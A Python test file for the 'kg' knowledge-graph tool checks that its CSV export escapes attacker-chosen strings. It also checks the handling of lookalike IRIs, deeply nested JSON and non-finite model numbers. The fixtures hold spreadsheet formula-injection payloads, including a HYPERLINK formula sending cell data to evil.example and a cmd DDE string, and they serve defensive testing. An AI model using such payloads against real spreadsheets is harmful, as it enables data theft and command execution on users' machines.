"""Files written to hurt the reader of kg's outputs, or kg itself (issue 36: M2, M5 and the low faults)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pyoxigraph as ox
import pytest
import rdflib
from click.testing import CliRunner, Result
from rdflib.compare import isomorphic

import kg
from kg.cli import cli
from kg.extract import scorer

from .conftest import FIXTURES

# A graph as kg writes one, its strings chosen by an attacker: each would be a formula in a spreadsheet.
HOSTILE_TTL = """\
@prefix dcterms: <http://purl.org/dc/terms/> .
@prefix fabio: <http://purl.org/spar/fabio/> .
@prefix kg: <https://w3id.org/kg/ontology#> .
@prefix oa: <http://www.w3.org/ns/oa#> .
@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .
@prefix skos: <http://www.w3.org/2004/02/skos/core#> .
@prefix xsd: <http://www.w3.org/2001/XMLSchema#> .

<https://e.org/paper/1> a fabio:ResearchPaper ;
    dcterms:identifier "@SUM(1+1)" ;
    dcterms:title "=HYPERLINK(\\"http://evil.example/?\\"&A1,\\"click\\")" ;
    fabio:hasPublicationYear "2024"^^xsd:gYear ;
    dcterms:isPartOf <https://e.org/venue/1> ;
    dcterms:subject <https://e.org/concept/1> .
<https://e.org/venue/1> rdfs:label "+cmd|' /C calc'!A0" .
<https://e.org/concept/1> a skos:Concept ; skos:prefLabel "-2+3" .
<https://e.org/concept/2> a skos:Concept ; skos:prefLabel "\\tTab" ; skos:broader <https://e.org/concept/1> .
<https://e.org/concept/3> a skos:Concept ; skos:prefLabel "\\r=1+1" .
<https://e.org/ann/1> a oa:Annotation ; oa:hasBody <https://e.org/concept/1> ; kg:score "-0.25"^^xsd:decimal ;
    oa:hasTarget <https://e.org/target/1> .
<https://e.org/target/1> oa:hasSource <https://e.org/paper/1> ; oa:hasSelector <https://e.org/sel/1> .
<https://e.org/sel/1> oa:start 0 ; oa:end 5 ; oa:exact "=1+2" .
"""


def _table(tmp_path: Path, *args: str) -> list[dict[str, str]]:
    graph = tmp_path / "hostile.ttl"
    graph.write_text(HOSTILE_TTL, encoding="utf-8")
    out = CliRunner().invoke(cli, ["export", str(graph), "-f", "csv", *args])
    assert out.exit_code == 0, out.output
    return list(csv.DictReader(io.StringIO(out.output)))


def test_cells_a_spreadsheet_would_evaluate_are_written_as_text(tmp_path: Path) -> None:
    [link] = _table(tmp_path)
    assert link["title"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
    assert link["paper_id"] == "'@SUM(1+1)"
    assert link["venue"] == "'+cmd|' /C calc'!A0"
    assert link["label"] == "'-2+3"
    # A number stays a number: a negative score is not text to a spreadsheet, nor to pandas.
    assert link["score"] == "-0.25" and link["year"] == "2024"
    assert link["evidence"] == "abstract[0:5] =1+2"  # starts with "abstract", which no spreadsheet evaluates
    concepts = {r["concept"]: r for r in _table(tmp_path, "--table", "concepts")}
    assert concepts["https://e.org/concept/1"]["label"] == "'-2+3"
    assert concepts["https://e.org/concept/2"]["label"] == "'\tTab"
    assert concepts["https://e.org/concept/3"]["label"] == "'\r=1+1"
    assert concepts["https://e.org/concept/1"]["papers"] == "1"


# IRIs whose scheme is one of kg's prefix names: written as they are, a JSON-LD reader expands them as compact names.
LOOKALIKES = """\
<paper:evil> <ann:thing> "1"^^<xsd:foo> .
<paper:evil> <http://www.w3.org/1999/02/22-rdf-syntax-ns#type> <kg:Thing> .
<https://e.org/a> <dcterms:title> <kgc:x> .
<https://e.org/a> <https://e.org/p> "plain" .
<https://e.org/a> <https://e.org/q> <https://w3id.org/kg/paper/real> .
<https://w3id.org/kg/paper/real> <https://e.org/p> <rdf:type> .
<https://w3id.org/kg/paper/real> <skos:broader> "x"@en .
<https://w3id.org/kg/paper/clean> <http://purl.org/dc/terms/title> "ok" .
"""


def test_jsonld_export_keeps_iris_that_look_like_compact_names(tmp_path: Path) -> None:
    graph = tmp_path / "lookalikes.nt"
    graph.write_text(LOOKALIKES, encoding="utf-8")
    out = kg.export(graph, tmp_path / "out.jsonld")
    want = rdflib.Graph().parse(graph, format="nt")
    back = rdflib.Graph().parse(out, format="json-ld")
    assert isomorphic(back, want), sorted(back ^ want)
    # pyoxigraph's reader agrees, and kg's own IRIs are still written as compact names.
    assert set(ox.parse(out.read_bytes(), format=ox.RdfFormat.JSON_LD)) == set(ox.parse(graph.read_bytes(), format=ox.RdfFormat.N_TRIPLES))
    assert '{"@id": "paper:clean", "dcterms:title": ["ok"]}' in out.read_text(encoding="utf-8")


def test_a_jsonld_graph_built_with_such_a_scheme_reads_back_as_built(tmp_path: Path) -> None:
    scheme = tmp_path / "scheme.ttl"
    scheme.write_text((FIXTURES / "tiny-scheme.ttl").read_text(encoding="utf-8").replace(
        "@prefix ex: <https://example.org/concept/> .", "@prefix ex: <kgc:> ."), encoding="utf-8")
    args = [str(FIXTURES / "tiny.jsonl"), "--scheme", str(scheme), "--no-default-scheme", "--no-render", "--no-store"]
    for name in ("g.jsonld", "g.nt"):
        result = CliRunner().invoke(cli, ["build", *args, "-o", str(tmp_path / name)])
        assert result.exit_code == 0, result.output
    built = rdflib.Graph().parse(tmp_path / "g.nt", format="nt")
    assert rdflib.URIRef("kgc:rl") in set(built.subjects())
    assert isomorphic(rdflib.Graph().parse(tmp_path / "g.jsonld", format="json-ld"), built)


def _one_line_error(result, *parts: str) -> None:
    assert result.exit_code == 1, result.output
    lines = result.output.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("Error: "), result.output
    for part in parts:
        assert part in lines[0], lines[0]


DEEP = "[" * 100_000 + "]" * 100_000


@pytest.mark.parametrize("flag", ["gold", "--keywords", "--expert"])
def test_deep_json_in_an_eval_file_is_one_line_naming_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, flag: str) -> None:
    monkeypatch.delenv("KG_DEBUG", raising=False)
    deep = tmp_path / "deep.jsonl"
    deep.write_text("\n" + DEEP + "\n", encoding="utf-8")
    graph = tmp_path / "g.nt"
    graph.write_text("", encoding="utf-8")
    args = [str(deep), str(graph)] if flag == "gold" else [flag, str(deep), str(graph)]
    _one_line_error(CliRunner().invoke(cli, ["eval", *args]), "deep.jsonl:2", "nested too deeply")


def _build_with_model(tmp_path: Path, model: str) -> Result:
    path = tmp_path / "model.json"
    path.write_text(model, encoding="utf-8")
    return CliRunner().invoke(cli, ["build", str(FIXTURES / "tiny.jsonl"), "--scheme", str(FIXTURES / "tiny-scheme.ttl"), "--no-default-scheme",
                                    "--no-render", "--no-store", "--model", str(path), "-o", str(tmp_path / "g.ttl")])


def test_deep_json_in_a_model_file_is_one_line_naming_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("KG_DEBUG", raising=False)
    _one_line_error(_build_with_model(tmp_path, DEEP), "model.json", "nested too deeply")
    _one_line_error(_build_with_model(tmp_path, '{"format": "kg-logistic-1", "intercept": ' + "9" * 5000 + "}"), "model.json")
    assert not (tmp_path / "g.ttl").exists()


def _model(field: str, value: float) -> str:
    """The shipped model with `value` in `field` (the first number of a list), written as Python's json writes NaN and Infinity."""
    body = json.loads(scorer.default_model_path().read_text(encoding="utf-8"))
    body[field] = [value, *body[field][1:]] if isinstance(body[field], list) else value
    return json.dumps(body)


NAN, INF = float("nan"), float("inf")


@pytest.mark.parametrize("field, value", [("mean", NAN), ("scale", INF), ("coef", -INF), ("intercept", NAN), ("threshold", INF),
                                          ("threshold", NAN)])
def test_a_model_with_a_number_that_is_not_finite_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, field: str, value: float) -> None:
    monkeypatch.delenv("KG_DEBUG", raising=False)
    result = _build_with_model(tmp_path, _model(field, value))
    _one_line_error(result, "model.json", field, "finite")
    assert not (tmp_path / "g.ttl").exists()


def test_a_model_threshold_outside_0_to_1_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("KG_DEBUG", raising=False)
    _one_line_error(_build_with_model(tmp_path, _model("threshold", 1.5)), "model.json", "'threshold' is 1.5")
